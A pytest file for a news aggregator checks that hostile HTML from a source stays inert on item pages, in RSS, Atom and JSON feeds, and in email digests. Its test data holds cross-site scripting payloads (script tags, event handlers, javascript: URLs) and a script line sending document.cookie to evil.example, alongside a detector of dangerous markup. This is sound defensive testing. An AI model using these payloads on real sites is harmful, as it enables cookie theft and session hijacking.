"""Hostile HTML from a source is inert everywhere it is shown: the item page, every feed format
and the email digest. The payloads enter the way a compromised site would send them: through the
mirror, the real fetcher and parsers, into the database."""

from __future__ import annotations

import json
from email.message import EmailMessage

import lxml.html
import pytest
from fastapi.testclient import TestClient
from lxml import etree
from sqlmodel import select

from aggregator.demo.mirror.manifest import Route
from aggregator.demo.smtp_sink import SmtpSink
from aggregator.publish.compose import DigestComposer
from aggregator.publish.subscriptions import Subscriptions
from aggregator.runtime import Runtime
from aggregator.store.db import session_scope
from aggregator.store.models import ItemRow
from aggregator.store.subscribers import Frequency, Preferences
from aggregator.store.tagging import TaggerProvider
from aggregator.web.app import create_app
from tests.conftest import SITES
from tests.pipeline.conftest import CONFIG, Harness, morphology

SLUG = "kuntapaikat-ja-laskennallinen-korvaus-muuttuvat"
TITLE = 'Kuntapaikat <script>alert("t")</script> muuttuvat"><img src=x onerror=alert(1)>'
SUMMARY = "Laskennallinen korvaus kunnille <iframe src=javascript:alert(2)></iframe> muuttuu."
BODY = (
    '<p onclick="alert(3)">Kunnille maksettava laskennallinen korvaus muuttuu.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p><a href="javascript:alert(4)">lue lisää</a> <img src=x onerror="alert(5)">'
    '<svg onload="alert(6)"></svg><style>body{display:none}</style>'
    '<a href="https://kotoutuminen.fi/korvaukset">Korvaukset</a></p>'
)
DANGEROUS_ELEMENTS = {"script", "iframe", "svg", "style", "object", "embed", "frame", "form"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href"}


def live_markup(html: str) -> list[str]:
    """Everything in ``html`` a browser or mail client would run: dangerous elements, event
    handler attributes, javascript: URLs. Escaped text showing the payload is inert and fine."""
    if not html.strip():
        return []
    found = []
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag.lower() in DANGEROUS_ELEMENTS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{element.tag} {name}=")
            if name.lower() in URL_ATTRIBUTES and value.strip().lower().startswith("javascript:"):
                found.append(f"{element.tag} {name}={value}")
    return found


def hostile_site() -> dict[str, list[Route]]:
    list_page = (SITES / "kotoutuminen.fi/uutiset/page-1.html").read_text(encoding="utf-8")
    marker = '<div class="portlet-content">\n'
    entry = (
        '<div class="asset-abstract">\n'
        f'<a class="asset-title" href="https://kotoutuminen.fi/-/{SLUG}">{escape_for_page(TITLE)}</a>\n'
        '<div class="asset-metadata"><span class="metadata-entry metadata-publish-date">'
        "20.11.2026</span> | Uutinen</div>\n"
        f'<div class="asset-summary">{escape_for_page(SUMMARY)}</div>\n</div>\n'
    )
    hostile_article = (
        "<!doctype html><html lang='fi'><head><meta charset='utf-8'><title>x</title></head>"
        f"<body><article class='tem-news'><h1 class='tem-news__title'>{escape_for_page(TITLE)}</h1>"
        "<div class='tem-news__meta'><p class='tem-news__date'>Julkaisuajankohta 20.11.2026 9.00"
        "</p><p class='tem-news__type'>Uutinen</p></div>"
        f"<div class='tem-news__content'>{BODY}</div></article></body></html>"
    )
    return {
        "kotoutuminen.fi": [
            Route(
                path="/uutiset",
                body=list_page.replace(marker, marker + entry, 1),
                content_type="text/html; charset=utf-8",
            ),
            Route(path=f"/-/{SLUG}", body=hostile_article, content_type="text/html; charset=utf-8"),
        ]
    }


def escape_for_page(text: str) -> str:
    """A site that escapes its list text correctly: the payload is visible text, not markup."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.fixture
def hostile_item(harness: Harness) -> int:
    report = harness.run(["kotoutuminen-uutiset"], hostile_site())["kotoutuminen-uutiset"]
    assert report.items_new > 0
    with session_scope(harness.engine) as session:
        row = session.exec(select(ItemRow).where(ItemRow.url.contains(SLUG))).one()  # type: ignore[attr-defined]
    assert row.id is not None
    assert "<script" in row.title  # stored as text, exactly as the site showed it
    assert live_markup(row.body_html) == [], row.body_html  # sanitised at ingest
    assert "https://kotoutuminen.fi/korvaukset" in row.body_html  # safe markup kept
    return row.id


@pytest.fixture
def client(harness: Harness) -> TestClient:
    runtime = Runtime(harness.settings("http://127.0.0.1:9"), clock=harness.clock)
    return TestClient(create_app(runtime, morphology=morphology()), base_url="http://127.0.0.1")


def test_item_page_shows_the_payload_as_text(client: TestClient, hostile_item: int) -> None:
    page = client.get(f"/items/{hostile_item}").text
    main = "<main" + page.split("<main", 1)[1].split("</main>", 1)[0] + "</main>"
    assert live_markup(main) == []
    assert "&lt;script&gt;" in main  # the title's payload is shown as text
    assert "Kunnille maksettava laskennallinen korvaus muuttuu." in main


def _rss_html(body: bytes) -> tuple[list[str], list[str]]:
    """(HTML fields, plain-text fields) of an RSS document, after XML unescaping."""
    root = etree.fromstring(body)
    return [d.text or "" for d in root.iter("description")], [
        t.text or "" for t in root.iter("title")
    ]


def _atom_html(body: bytes) -> tuple[list[str], list[str]]:
    root = etree.fromstring(body)
    ns = "{http://www.w3.org/2005/Atom}"
    html = [e.text or "" for tag in ("summary", "content") for e in root.iter(ns + tag)]
    assert all(
        e.get("type", "text") == "html"
        for tag in ("summary", "content")
        for e in root.iter(ns + tag)
    )
    titles = [e.text or "" for e in root.iter(ns + "title")]
    assert all(e.get("type", "text") == "text" for e in root.iter(ns + "title"))
    return html, titles


def _json_html(body: bytes) -> tuple[list[str], list[str]]:
    items = json.loads(body)["items"]
    return [str(i.get("content_html", "")) for i in items], [str(i.get("title", "")) for i in items]


@pytest.mark.parametrize(
    ("suffix", "texts"), [("rss", _rss_html), ("atom", _atom_html), ("json", _json_html)]
)
def test_every_feed_carries_only_inert_html(
    client: TestClient, hostile_item: int, suffix: str, texts: object
) -> None:
    response = client.get(f"/feeds/source/kotoutuminen-uutiset.{suffix}")
    assert response.status_code == 200
    assert callable(texts)
    html_fields, text_fields = texts(response.content)  # after XML/JSON unescaping
    hostile = [t for t in html_fields if "laskennallinen korvaus" in t.lower()]
    assert hostile
    for html in hostile:
        assert live_markup(html) == [], html
    # Titles are plain text by each format's definition: the payload comes back as the exact
    # characters the site showed, for the reader to display as text.
    assert any(t.startswith("Kuntapaikat <script>") for t in text_fields)


def test_email_digest_carries_only_inert_html(harness: Harness, hostile_item: int) -> None:
    with SmtpSink() as sink:
        harness.settings_overrides.update(smtp_port=sink.port, mail_rate_per_second=0)
        runtime = Runtime(harness.settings("http://127.0.0.1:9"), clock=harness.clock)
        _check_digest(harness, runtime, hostile_item)


def _check_digest(harness: Harness, runtime: Runtime, hostile_item: int) -> None:
    subscriptions = Subscriptions.from_runtime(runtime)
    with session_scope(harness.engine) as session:
        TaggerProvider(CONFIG, morphology(), harness.clock).tag_story(
            session, hostile_item, harness.clock.now()
        )
    preferences = Preferences(audiences=("municipalities",), frequency=Frequency.DAILY)
    _subscribe_and_confirm(subscriptions, preferences)
    message = DigestComposer(runtime.engine, runtime.settings, clock=runtime.clock).preview(
        "lukija@example.org"
    )
    assert isinstance(message, EmailMessage)
    html_part = message.get_body(("html",))
    text_part = message.get_body(("plain",))
    assert html_part is not None and text_part is not None
    html = html_part.get_content()
    assert "Kuntapaikat" in html
    assert live_markup(html.split("<body", 1)[-1]) == []


def _subscribe_and_confirm(subscriptions: Subscriptions, preferences: Preferences) -> None:
    result = subscriptions.subscribe("lukija@example.org", preferences, via="test")
    subscriptions.confirm(result.link)
